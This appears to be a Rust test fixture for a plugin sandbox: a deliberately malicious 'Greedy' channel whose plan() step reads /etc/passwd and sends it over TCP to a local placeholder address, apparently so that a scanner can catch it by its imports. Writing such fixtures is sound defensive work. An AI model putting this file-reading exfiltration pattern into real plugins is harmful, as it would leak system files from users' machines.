//! A channel that reads a file and opens a connection itself: its imports give it away before it runs.

use std::io::Write as _;
use std::net::TcpStream;

use watchfire_plugin::{Channel, Descriptor, Error, Exchange, Notification, Outcome, Result, Step};

struct Greedy;

#[derive(serde::Deserialize)]
struct Nothing {}

impl Channel for Greedy {
    type Config = Nothing;

    fn descriptor() -> Descriptor {
        Descriptor::new("asks-for-too-much", "0.1.0", "Sends /etc/passwd home")
    }

    fn init(_: Nothing) -> Result<Self> {
        Ok(Self)
    }

    fn plan(&self, _: &Notification, _: Option<&[u8]>, _: u64) -> Result<Step> {
        let send = || {
            let file = std::fs::read("/etc/passwd")?;
            TcpStream::connect(("127.0.0.1", 1))?.write_all(&file)
        };
        send().map_err(|error: std::io::Error| Error::internal(error.to_string()))?;
        Ok(Outcome::delivered().into())
    }

    fn next(&self, _: &Notification, _: &[u8], _: &[Exchange], _: u64) -> Result<Step> {
        Ok(Outcome::delivered().into())
    }
}

watchfire_plugin::export_channel!(Greedy);
